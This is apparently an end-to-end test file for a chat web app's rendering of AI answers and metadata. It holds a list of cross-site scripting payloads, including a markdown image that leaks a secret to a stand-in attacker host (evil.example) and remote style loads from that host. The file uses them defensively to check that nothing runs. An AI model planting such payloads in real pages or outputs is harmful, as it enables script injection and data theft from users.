// What whoever can write into an answer cannot do: run a script, ask a server, lead into the gateway.

import { expect, say, stage, test } from '../../stage.mjs';
import { answer, chat, END, open, openApp, run, stream, text } from './app.mjs';

const HOSTILE = [
  '<script>hacked=1</script>',
  '<img src=x onerror=hacked=1>',
  '<svg onload=hacked=1>',
  '<svg><script>hacked=1</script></svg>',
  '<svg><animate onbegin=hacked=1 attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<iframe src="javascript:parent.hacked=1"></iframe>',
  '<body onload=hacked=1>',
  '<details open ontoggle=hacked=1>x</details>',
  '<video><source onerror=hacked=1></video>',
  '<audio src=x onerror=hacked=1>',
  '<input autofocus onfocus=hacked=1>',
  '<select autofocus onfocus=hacked=1>',
  '<marquee onstart=hacked=1>x</marquee>',
  '<object data="javascript:hacked=1"></object>',
  '<embed src="javascript:hacked=1">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(https://evil.example/x.png)">x</div>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button autofocus>x</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hacked=1>',
  '<math href="javascript:hacked=1">x</math>',
  '<template><script>hacked=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=hacked=1>">',
  '[x](javascript:hacked=1)',
  '[x](JaVaScRiPt&colon;hacked=1)',
  '[x](data:text/html,<script>hacked=1</script>)',
  '[x](vbscript:hacked)',
  '<javascript:hacked=1>',
  '![x](javascript:hacked=1)',
  '![x](https://evil.example/?q=secret)',
  '![x](//evil.example/x.png)',
  '![x](data:image/svg+xml,<svg onload=hacked=1>)',
  '![x](auth/logout)',
  '[x](auth/logout)',
  '[x]: auth/logout\n\n[x] and ![x]',
  '```html\n<script>hacked=1</script>\n```',
  '```mermaid\ngraph TD; A[<img src="https://evil.example/x.png" onerror=hacked=1>]\n```',
  '$\\href{javascript:hacked=1}{x}$',
  '$$\\includegraphics{https://evil.example/x.png}$$',
  '$\\style{background:url(https://evil.example/x.png)}{x}$',
  '| <img src=x onerror=hacked=1> |\n| - |\n| <script>hacked=1</script> |',
  '<think><img src=x onerror=hacked=1></think>',
];

/** Follows every request of the page. */
function requests(page) {
  const addresses = [];
  page.on('request', (request) => addresses.push(request.url()));
  return addresses;
}

/** Nothing ran, nothing was asked but the page's own gateway, and nobody was signed out. */
async function expectHarmless(page, addresses) {
  await page.waitForTimeout(300);
  expect(await page.evaluate(() => globalThis.hacked)).toBeUndefined();
  const foreign = addresses.filter((address) => !address.startsWith(`${stage.url}/`) && !address.startsWith('blob:'));
  expect(foreign).toEqual([]);
  expect(addresses.filter((address) => address.includes('/auth/logout'))).toEqual([]);
}

test('no answer runs a script, asks another server or leads into the gateway', async ({ page }) => {
  test.slow();
  await open(page);
  await stream(page, '/chat-messages', [text(HOSTILE.join('\n\n')), END], ...HOSTILE.map((each) => [text(each), END]));
  const addresses = requests(page);
  for (let count = 0; count <= HOSTILE.length; count += 1) {
    await say(page, `${count}`);
    await expect(page.getByRole('button', { name: 'Send' })).toBeVisible();
  }
  await expect(page.locator('.turn')).toHaveCount(HOSTILE.length + 1);
  for (const summary of await page.locator('details.thinking > summary').all()) await summary.click();
  expect(await page.locator('.turn :is(script, iframe, object, embed, form, svg:not(.icon), style, link, base, meta)').count()).toBe(0);
  const links = await page.locator('.answer a').evaluateAll((all) => all.map((each) => each.protocol));
  expect(links.every((protocol) => /^(https?|mailto|tel):$/.test(protocol))).toBe(true);
  await expectHarmless(page, addresses);
});

test('nor do a title of a step, a source, a file, an error, a form', async ({ page }) => {
  const bad = '<img src="https://evil.example/x.png" onerror=hacked=1><script>hacked=1</script>';
  await open(page, 'advanced-chat', [{ 'text-input': { variable: 'name', label: bad } }]);
  const step = { id: 'a', node_id: 'a', node_type: 'llm', title: bad, status: 'failed', error: bad, inputs: { [bad]: bad } };
  const form = { form_id: 'f', node_id: 'h', node_title: bad, form_content: bad, form_token: null, inputs: [], actions: [{ id: 'x', title: bad }] };
  await stream(page, '/chat-messages', [
    run('workflow_started'), run('node_started', step), run('node_finished', step),
    chat('message_file', { id: bad, type: 'image', belongs_to: 'assistant', url: 'https://evil.example/x.png', filename: bad }),
    chat('message_file', { id: 'two', type: 'document', belongs_to: 'assistant', url: 'javascript:hacked=1', filename: bad }),
    run('human_input_required', form),
    chat('message_end', { metadata: { retriever_resources: [{ position: 1, document_name: bad, dataset_name: bad, content: bad }] } }),
    chat('error', { code: bad, message: bad }),
  ]);
  const addresses = requests(page);
  await say(page, bad);
  await expect(page.getByRole('alert')).toBeVisible();
  const folded = page.locator('details.disclosure:not([open]) > summary');
  while ((await folded.count()) > 0) await folded.first().click();
  expect(await page.locator('.conversation :is(script, iframe)').count()).toBe(0);
  await expectHarmless(page, addresses);
});

test('nor does what an app says about itself, or the name of a conversation', async ({ page }) => {
  const bad = '<img src="https://evil.example/x.png" onerror=hacked=1><script>hacked=1</script> ![x](https://evil.example/y.png) [z](javascript:hacked=1)';
  await open(page, 'chat', [], {
    title: bad, icon: bad, icon_background: 'url(https://evil.example/z.png)', input_placeholder: bad, custom_disclaimer: bad, chat_color_theme: 'url(https://evil.example/z.png)',
  });
  const form = [{ 'text-input': { variable: 'name', label: bad, default: bad } }];
  await answer(page, '/parameters', { opening_statement: `${bad} {{name}}`, suggested_questions: [bad], user_input_form: form });
  await answer(page, '/conversations', { has_more: false, data: [{ id: bad, name: bad, introduction: bad, inputs: { name: bad }, updated_at: 1 }] });
  const addresses = requests(page);
  await page.reload();
  await expect(page.getByRole('navigation').getByRole('link')).toHaveText(/<img/);
  await expect(page.locator('.opening')).toContainText('<script>');
  await page.getByRole('button', { name: /^Options for/ }).click();
  await page.getByRole('button', { name: 'Delete' }).click();
  await expect(page.getByRole('dialog')).toContainText('<script>');
  expect(await page.locator('#app :is(script, iframe, a[href^="javascript:"])').count()).toBe(0);
  await expectHarmless(page, addresses);
});

test('whatever an operation answers with, the page says so and goes on', async ({ page }) => {
  let shape = '{}';
  const answered = () => ({ contentType: 'application/json', body: shape });
  const operations = ['GET /info', 'GET /parameters', 'GET /site', 'GET /conversations', 'GET /messages', 'POST /chat-messages'];
  const overrides = Object.fromEntries(operations.map((operation) => [operation, () => (shape === '' ? undefined : answered())]));
  await openApp(page, { overrides });
  for (shape of ['{}', 'null', '[[]]', '{"data": {"a": 1}, "mode": ["chat"], "user_input_form": 7}', '<!doctype html>']) {
    await page.reload();
    await expect(page.getByRole('alert').filter({ hasText: 'in a way that this page does not understand' }).first()).toBeVisible();
    await expect(page.getByRole('textbox', { name: 'Your message' })).toBeVisible();
  }
  shape = '';
  await page.getByRole('button', { name: 'Try again' }).first().click();
  await expect(page.getByText('Ask me about travel.')).toBeVisible();
  await expect(page.getByRole('navigation').getByRole('link')).toHaveCount(3);
  shape = '{"answer": "no stream"}';
  await say(page, 'Hello');
  await expect(page.getByRole('alert').last()).toContainText('in a way that this page does not understand');
  shape = '';
  await page.getByRole('button', { name: 'Try again' }).click();
  await expect(page.getByText('Yes.', { exact: true })).toBeVisible();
});
